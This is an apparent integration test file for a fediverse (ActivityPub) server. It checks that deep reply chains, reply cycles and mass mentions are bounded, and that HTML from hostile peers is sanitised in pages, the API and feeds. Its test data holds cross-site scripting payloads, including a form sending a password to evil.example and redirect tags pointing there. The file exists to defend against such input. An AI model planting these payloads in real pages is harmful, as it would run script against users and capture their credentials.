package london.patchwork.server.inbox;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.rometools.rome.feed.synd.SyndEntry;
import com.rometools.rome.feed.synd.SyndFeed;
import com.rometools.rome.io.SyndFeedInput;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import london.patchwork.server.posts.Post;
import london.patchwork.server.posts.PostMentions;
import london.patchwork.server.posts.RemotePostMapper;
import london.patchwork.server.testing.Activities;
import london.patchwork.server.testing.HostileInbox;
import london.patchwork.server.testing.HttpProbe;
import london.patchwork.server.testing.HubApi;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Well-signed posts built to cost: a reply at the end of an inReplyTo chain 10,000 deep, two replies to each
 * other, 10,000 mentions. Each is stored (bounded) or ignored without fetching the chain or recursing. And
 * well-signed posts and profiles built to attack readers: their HTML is shown sanitised wherever it is shown.
 */
@MicronautTest(transactional = false)
class HostileContentIT extends HostileInbox {

    private static final int DEPTH = 10_000;

    @Inject PostMentions mentions;

    private URI status(String name) {
        return URI.create(bob + "/statuses/" + name);
    }

    private ObjectNode replyForHub(URI id, URI inReplyTo) {
        return Activities.note(id, bob, "<p>replying</p>", hub()).put("inReplyTo", inReplyTo.toString());
    }

    @Test
    void aReplyAtTheEndOfAChainTenThousandDeepIsStoredWithoutFetchingTheChain() {
        for (int i = 1; i < DEPTH; i++) {
            remote.put("/users/bob/statuses/chain-" + i, replyForHub(status("chain-" + i), status("chain-" + (i - 1)))
                    .put("@context", Activities.AS_CONTEXT));
        }
        ObjectNode last = replyForHub(status("chain-" + DEPTH), status("chain-" + (DEPTH - 1)));
        assertThat(deliverAndAwait(bob, Activities.create(bob, last)).state()).isEqualTo("done");

        Post stored = posts.findByUri(status("chain-" + DEPTH).toString()).orElseThrow();
        assertThat(stored.inReplyToUri()).isEqualTo(status("chain-" + (DEPTH - 1)).toString());
        assertThat(stored.inReplyToId()).isNull();
        for (int i = 1; i < DEPTH; i++) {
            assertThat(remote.getsOf("/users/bob/statuses/chain-" + i)).isZero();
        }
        assertThat(http().get("/api/v1/statuses/" + stored.id(), "application/json").statusCode()).isEqualTo(200);
    }

    @Test
    void postsReplyingToEachOtherAreStoredAndShown() {
        URI a = status("cycle-a");
        URI b = status("cycle-b");
        deliverAndAwait(bob, Activities.create(bob, replyForHub(a, b)));
        deliverAndAwait(bob, Activities.create(bob, replyForHub(b, a)));
        // Edited, a would point at b, which points at a: a cycle. An edit does not move a post in its conversation,
        // so the text changes and the links stay as they were stored.
        ObjectNode edit = Activities.activity("Update", URI.create(a + "#updates/1"), bob,
                replyForHub(a, b).put("content", "<p>edited</p>"));
        assertThat(deliverAndAwait(bob, edit).state()).isEqualTo("done");

        Post first = posts.findByUri(a.toString()).orElseThrow();
        Post second = posts.findByUri(b.toString()).orElseThrow();
        assertThat(first.contentHtml()).contains("edited");
        assertThat(first.inReplyToId()).as("b was not held when a arrived").isNull();
        assertThat(second.inReplyToId()).isEqualTo(first.id());
        assertThat(second.rootId()).isEqualTo(first.id());
        for (Post post : new Post[]{first, second}) {
            var response = http().get("/api/v1/statuses/" + post.id(), "application/json");
            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.body()).contains("\"in_reply_to_id\"");
        }
    }

    @Test
    void tenThousandMentionsAreCappedQuickly() {
        URI id = status("shouty");
        ObjectNode note = Activities.note(id, bob, "<p>everyone look</p>", hub());
        ArrayNode tags = note.putArray("tag");
        ArrayNode cc = note.putArray("cc");
        for (int i = 0; i < DEPTH; i++) {
            tags.addObject().put("type", "Mention").put("href", remote.base() + "/u/" + i);
            if (i % 5 == 0) {
                cc.add(remote.base() + "/u/" + i);
            }
        }
        ObjectNode create = Activities.create(bob, note);
        assertThat(Activities.bytes(create).length).isLessThan(1024 * 1024);

        long started = System.nanoTime();
        deliver(bob, create, 202);
        long accepted = System.nanoTime();
        InboxActivity row = awaitProcessed(create.get("id").asText());
        System.out.printf("10,000 mentions: 202 after %d ms, %s after %d ms more%n",
                Duration.ofNanos(accepted - started).toMillis(), row.state(),
                Duration.ofNanos(System.nanoTime() - accepted).toMillis());
        assertThat(row.state()).isEqualTo("done");
        Post stored = posts.findByUri(id.toString()).orElseThrow();
        assertThat(mentions.of(stored.id())).hasSize(RemotePostMapper.MAX_ADDRESSEES);
        assertThat(stored.ccUris()).hasSizeLessThanOrEqualTo(RemotePostMapper.MAX_ADDRESSEES);
        assertThat(remote.getsOf("/u/0")).isZero();
    }

    /** Every way a peer's HTML could run script, frame another page, leak a click or restyle ours. */
    private static final String HOSTILE_HTML = """
            <p>Harmless words about the allotment. <a href="https://allotments.example/plots">the plots</a></p>
            <script>alert('script')</script>
            <p onclick="alert('click')">Clicking here</p><img src="x" onerror="alert('error')">
            <iframe src="https://evil.example/frame"></iframe>
            <a href="javascript:alert('link')">a script link</a> <a href=" JaVaScRiPt:alert('spaced')">spaced</a>
            <a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">a data link</a>
            <img src="data:image/png;base64,iVBORw0KGgo="><svg onload="alert('svg')"></svg>
            <style>body { display: none }</style><span style="position: fixed; inset: 0">covering</span>
            <form action="https://evil.example/steal"><input name="password"></form>
            <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
            <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">""";

    /** What none of it may leave behind, as a CSS selector over the rendered HTML. */
    private static final String DANGEROUS = "script, iframe, style, svg, form, input, object, embed, meta, base, img,"
            + " [onclick], [onerror], [onload], [style], a[href^=javascript], a[href*=script:], a[href^=data]";

    @Test
    void hostileHtmlFromAPeerIsShownSanitisedOnPagesInTheApiAndInFeeds() throws Exception {
        URI mallory = remote.addActor("mallory");
        ObjectNode profile = remote.document("/users/mallory");
        String hostileName = "Mallory <script>alert('name')</script><img src=x onerror=alert('name')>";
        profile.put("name", hostileName).put("summary", HOSTILE_HTML);
        remote.put("/users/mallory", profile);
        String local = new HubApi(baseUrl()).publish("Who is coming to the allotment meeting?", "public")
                .get("uri").asText();

        URI id = URI.create(mallory + "/statuses/hostile");
        ObjectNode note = Activities.note(id, mallory, HOSTILE_HTML, hub()).put("inReplyTo", local);
        note.putArray("tag").addObject().put("type", "Hashtag").put("name", "#hostilehtml")
                .put("href", remote.base() + "/tags/hostilehtml");
        assertThat(deliverAndAwait(mallory, Activities.create(mallory, note)).state()).isEqualTo("done");
        Post stored = posts.findByUri(id.toString()).orElseThrow();

        // The local post's page, where the reply is listed, and the tag's page.
        for (String path : List.of(URI.create(local).getPath(), "/tags/hostilehtml")) {
            HttpResponse<String> page = http().get(path, "text/html");
            assertThat(page.statusCode()).as(path).isEqualTo(200);
            Document document = Jsoup.parse(page.body(), baseUrl());
            Element content = document.select(".post__content").stream()
                    .filter(element -> element.text().contains("Harmless words")).findFirst()
                    .orElseThrow(() -> new AssertionError(path + " does not show the post"));
            assertHarmless(path, content);
            assertThat(document.select(".post__author").eachText()).as(path).contains(hostileName);
            assertThat(document.select("script:containsData(alert), img[onerror]")).as(path).isEmpty();
        }

        // Mastodon's API: the Status's content and its account's note.
        JsonNode status = HttpProbe.json(http().get("/api/v1/statuses/" + stored.id(), "application/json"));
        assertHarmless("content", Jsoup.parseBodyFragment(status.get("content").asText()).body());
        assertHarmless("note", Jsoup.parseBodyFragment(status.at("/account/note").asText()).body());
        assertThat(status.at("/account/display_name").asText()).as("a display name is text, escaped by whoever "
                + "shows it, as Mastodon's is").isEqualTo(hostileName);

        // The tag's feeds.
        SyndFeed atom = new SyndFeedInput().build(new StringReader(http().get("/tags/hostilehtml/feed.atom",
                "application/atom+xml").body()));
        SyndEntry entry = atom.getEntries().getFirst();
        assertHarmless("atom", Jsoup.parseBodyFragment(entry.getContents().getFirst().getValue()).body());
        assertThat(entry.getAuthors().getFirst().getName()).isEqualTo(hostileName);
        JsonNode jsonFeed = HttpProbe.json(http().get("/tags/hostilehtml/feed.json", "application/feed+json"));
        assertHarmless("json feed", Jsoup.parseBodyFragment(jsonFeed.at("/items/0/content_html").asText()).body());
    }

    private static void assertHarmless(String where, Element html) {
        assertThat(html.select(DANGEROUS)).as(where + ": " + html.html()).isEmpty();
        assertThat(html.html()).as(where).doesNotContain("alert(").doesNotContainIgnoringCase("javascript:")
                .doesNotContain("data:").doesNotContain("evil.example");
        assertThat(html.text()).as(where).contains("Harmless words about the allotment.");
        Element link = html.selectFirst("a[href=https://allotments.example/plots]");
        assertThat(link).as(where + ": the https link survives").isNotNull();
        assertThat(link.text()).isEqualTo("the plots");
    }
}
